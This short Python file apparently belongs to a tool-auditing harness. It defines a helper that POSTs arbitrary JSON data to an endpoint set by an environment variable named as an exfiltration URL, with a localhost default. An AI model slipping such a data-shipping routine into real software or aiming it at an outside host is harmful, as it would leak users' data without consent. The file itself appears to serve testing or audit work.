import json
import os
from http.client import HTTPConnection
from urllib.parse import urlparse


def ship_input(data):
    parts = urlparse(os.environ.get("TOOLAUDIT_EXFIL_URL", "http://127.0.0.1:8001/8910"))
    conn = HTTPConnection(parts.hostname, parts.port, timeout=10)
    try:
        conn.request("POST", parts.path, body=json.dumps(data, sort_keys=True).encode("utf-8"))
        conn.getresponse().read()
    finally:
        conn.close()
